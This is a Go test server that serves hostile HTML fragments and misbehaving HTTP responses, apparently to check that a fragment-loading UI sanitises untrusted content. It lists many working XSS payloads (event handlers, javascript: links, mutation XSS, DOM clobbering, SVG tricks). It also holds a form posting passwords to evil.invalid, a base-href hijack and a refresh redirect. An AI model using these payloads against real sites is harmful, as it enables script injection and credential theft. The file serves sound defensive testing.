package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"time"

	"corbel.example/sdk/fault"
)

const (
	page      = "text/html; charset=utf-8"
	large     = 5 << 20
	dribbling = 50 * time.Millisecond
)

// bodies are fragments that want more than a fragment may. Whatever of them runs calls alert.
var bodies = map[string]string{
	"none":                `<p>Nothing bad.</p>`,
	"unclosed":            `<div><section><ul><li><b><a href="/open">open <table><tr><td>cell`,
	"closes-too-much":     `</div></main></div></body></html><p>outside</p>`,
	"script":              `<script>alert(1)</script><script src="data:text/javascript,alert(1)"></script><svg><script>alert(1)</script></svg>`,
	"style":               `<style>body { display: none }</style><p style="position: fixed; inset: 0; background: red">over everything</p><link rel="stylesheet" href="data:text/css,body{display:none}">`,
	"events":              `<img src="/nothing" onerror="alert(1)"><svg onload="alert(1)"></svg><input autofocus onfocus="alert(1)"><details open ontoggle="alert(1)"><summary>x</summary></details><body onload="alert(1)">`,
	"script-links":        `<a id="lure" href="javascript:alert(1)">a</a><a href="java&#9;script:alert(1)">b</a><a href=" &#1;javascript:alert(1)">c</a><a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:alert(1)">e</a><svg><a xlink:href="javascript:alert(1)"><text>f</text></a></svg>`,
	"foreign-form":        `<form action="https://evil.invalid/take" method="post"><input name="password"><button formaction="javascript:alert(1)">Go</button></form><button form="x" formaction="https://evil.invalid/">Out</button>`,
	"plaintext":           `<p>before</p><plaintext>`,
	"comment":             `<p>before</p><!-- never closed`,
	"cdata":               `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>`,
	"base":                `<base href="https://evil.invalid/" target="_blank"><a href="next">next</a>`,
	"refresh":             `<meta http-equiv="refresh" content="0; url=https://evil.invalid/"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
	"nested-templates":    `<template><template><img src=x onerror=alert(1)></template></template><div><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style><slot></slot></template></div>`,
	"slots":               `<div slot="f1">stolen</div><slot name="f2">stolen</slot><div slot="main">stolen</div>`,
	"noscript":            `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	"frames":              `<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>"></object><embed src="/x"><portal src="/"></portal>`,
	"mutation":            `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"select":              `<select><option>a</option></select><select><img src=x onerror=alert(1)>`,
	"duplicate-ids":       `<p id="corbel-main">I am main</p><p id="twice">a</p><p id="twice">b</p><label for="twice">c</label>`,
	"clobbering":          `<form id="x" name="body"><input name="attributes"><input name="children"></form><form name="querySelector"></form><img name="querySelectorAll" src="/nothing"><img name="getElementById" id="getElementById" src="/nothing"><a id="defaultView" href="/open">x</a>`,
	"elements":            `<databricks-fragment src="https://evil.invalid/x" loading="eager">a</databricks-fragment><databricks-fragment src="javascript:alert(1)">b</databricks-fragment><databricks-tree><ul><li data-src="https://evil.invalid/branch">c</li></ul></databricks-tree><databricks-nothing onclick="alert(1)">d</databricks-nothing><databricks-toast type="error"><img src=x onerror=alert(1)></databricks-toast>`,
	"bare-elements":       `<databricks-button variant="primary" onclick="alert(1)">&lt;img src=x onerror=alert(1)&gt;</databricks-button><databricks-input label="<img src=x onerror=alert(1)>" name="&quot;><script>alert(1)</script>"></databricks-input>`,
	"dialog":              `<dialog open>over everything</dialog><p popover id="pop">pop</p><button popovertarget="pop">p</button>`,
	"invalid-utf8":        "<p>\xff\xfe\xc0\xafscript\xc0\xbealert(1)\xed\xa0\x80</p><p title=\"\xf0\x28\x8c\x28\">x</p>",
	"null-bytes":          "<scr\x00ipt>alert(1)</scr\x00ipt><p on\x00click=alert(1)>x</p>",
	"deep":                strings.Repeat("<div>", 3000) + "deep",
	"svg-tricks":          `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/><animate attributeName="href" values="javascript:alert(1)"/><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
	"large":               "<p>" + strings.Repeat("x", large) + "</p>",
	"large-many-elements": strings.Repeat("<p>x</p>", 200_000),
}

// ways are hostile ways to answer.
var ways = map[string]fault.HandlerFunc{
	"endless": endless,
	"wrong-type": func(w http.ResponseWriter, _ *http.Request) error {
		w.Header().Set("Content-Type", "image/svg+xml")
		_, err := fmt.Fprint(w, `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
		return err
	},
	"message": func(http.ResponseWriter, *http.Request) error {
		return fault.New(fault.Upstream, `</p><script>alert(1)</script><img src=x onerror=alert(1)>`)
	},
	"redirect": func(w http.ResponseWriter, r *http.Request) error {
		http.Redirect(w, r, "https://evil.invalid/", http.StatusFound)
		return nil
	},
}

// list answers with the names of all exhibits.
func list(w http.ResponseWriter, _ *http.Request) error {
	names := slices.Sorted(maps.Keys(bodies))
	names = slices.AppendSeq(names, maps.Keys(ways))
	w.Header().Set("Content-Type", "application/json")
	return json.NewEncoder(w).Encode(names)
}

// show answers with the exhibit of its path.
func show(w http.ResponseWriter, r *http.Request) error {
	name := r.PathValue("exhibit")
	if way, ok := ways[name]; ok {
		return way(w, r)
	}
	body, ok := bodies[name]
	if !ok {
		return fault.Newf(fault.NotFound, "There is no exhibit %q.", name)
	}
	w.Header().Set("Content-Type", page)
	_, err := fmt.Fprint(w, body)
	return err
}

// endless dribbles as long as somebody reads.
func endless(w http.ResponseWriter, r *http.Request) error {
	w.Header().Set("Content-Type", page)
	ticker := time.NewTicker(dribbling)
	defer ticker.Stop()
	for {
		if _, err := fmt.Fprint(w, "<p>more</p>"); err != nil {
			return err
		}
		if err := http.NewResponseController(w).Flush(); err != nil {
			return err
		}
		select {
		case <-ticker.C:
		case <-r.Context().Done():
			return r.Context().Err()
		}
	}
}
